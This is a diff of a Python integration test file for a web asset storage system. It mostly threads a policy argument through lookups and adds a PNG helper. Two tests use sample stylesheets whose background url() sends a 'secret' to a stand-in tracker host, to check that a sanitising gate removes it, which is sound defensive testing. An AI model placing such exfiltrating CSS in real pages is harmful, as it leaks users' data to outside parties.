@@ -5,7 +5,7 @@ from datetime import timedelta
 from hashlib import sha256
 
 import pytest
-from tests.integration.storage.factory import POLICY, SITE, scrubbed
+from tests.integration.storage.factory import POLICY, SITE, png, scrubbed
 from tests.integration.storage.fixtures import AppendAll
 
 from voile import clock
@@ -21,7 +21,7 @@ from voile.storage.sniffing import AssetKind
 
 pytestmark = pytest.mark.django_db(transaction=True, databases=["default", "keys"])
 
-PNG = b"\x89PNG\r\n\x1a\n" + b"pixel-canary" * 20
+PNG = png(b"pixel-canary" * 20)
 SHEET = b".canary-sheet { color: red }\n"
 
 
@@ -46,7 +46,7 @@ def test_an_image_is_stored_once_and_found(append_all: AppendAll, storage: Insta
     announce(append_all, ("image", PNG))
     assert put(AssetKind.IMAGE, PNG) == Stored()
     assert put(AssetKind.IMAGE, PNG) == Known()
-    found = assets.get(SITE, digest(PNG))
+    found = assets.get(SITE, digest(PNG), POLICY)
     assert found is not None
     assert (found.kind, found.media_type, found.data) == (AssetKind.IMAGE, "image/png", PNG)
     assert len(files(storage)) == 1
@@ -56,7 +56,7 @@ def test_a_sheet_passes_the_gate_before_it_is_stored(append_all: AppendAll) -> N
     hostile = b'.a { background: url("http://tracker.example/u?secret=1") } .b { color: red }'
     announce(append_all, ("sheet", hostile))
     assert put(AssetKind.SHEET, hostile) == Stored()
-    found = assets.get(SITE, digest(hostile))
+    found = assets.get(SITE, digest(hostile), POLICY)
     assert found is not None
     assert found.media_type == "text/css; charset=utf-8"
     assert b"secret" not in found.data
@@ -86,7 +86,7 @@ def test_a_hash_cannot_be_poisoned(append_all: AppendAll) -> None:
     announce(append_all, ("image", PNG))
     forged = assets.put(SITE, digest(PNG), AssetKind.IMAGE, PNG + b"forged", POLICY)
     assert forged == Refused(Refusal.WRONG_HASH)
-    assert assets.get(SITE, digest(PNG)) is None
+    assert assets.get(SITE, digest(PNG), POLICY) is None
 
 
 @pytest.mark.parametrize(
@@ -131,9 +131,9 @@ def test_an_asset_goes_with_the_last_recording_that_names_it(
     announce(append_all, ("image", PNG), tab="two")
     put(AssetKind.IMAGE, PNG)
     erasing.erase([scrubbed(tab="one").recording])
-    assert assets.get(SITE, digest(PNG)) is not None
+    assert assets.get(SITE, digest(PNG), POLICY) is not None
     erasing.erase([scrubbed(tab="two").recording])
-    assert assets.get(SITE, digest(PNG)) is None
+    assert assets.get(SITE, digest(PNG), POLICY) is None
     assert files(storage) == []
     assert [model.objects.count() for model in (AssetUse, AssetAlias, Asset)] == [0, 0, 0]
 
@@ -156,7 +156,7 @@ def test_two_sheets_that_the_gate_makes_equal_share_an_object(
     two = b'.a { background: url("http://tracker.example/u?secret=2") }'
     announce(append_all, ("sheet", one), ("sheet", two))
     assert put(AssetKind.SHEET, one) == put(AssetKind.SHEET, two) == Stored()
-    gated = [found.data for sheet in (one, two) if (found := assets.get(SITE, digest(sheet)))]
+    gated = [found.data for sheet in (one, two) if (found := assets.get(SITE, digest(sheet), POLICY))]
     assert len(gated) == 2
     assert len(files(storage)) == len(set(gated))
 
@@ -170,10 +170,10 @@ def test_a_damaged_object_is_not_shown(append_all: AppendAll, storage: Installat
     data[-1] ^= 1
     path.write_bytes(bytes(data))
     with pytest.raises(SegmentBroken):
-        assets.get(SITE, digest(PNG))
+        assets.get(SITE, digest(PNG), POLICY)
 
 
 def test_assets_do_not_show_in_a_repr(append_all: AppendAll) -> None:
     announce(append_all, ("image", PNG))
     put(AssetKind.IMAGE, PNG)
-    assert "canary" not in repr(assets.get(SITE, digest(PNG)))
+    assert "canary" not in repr(assets.get(SITE, digest(PNG), POLICY))
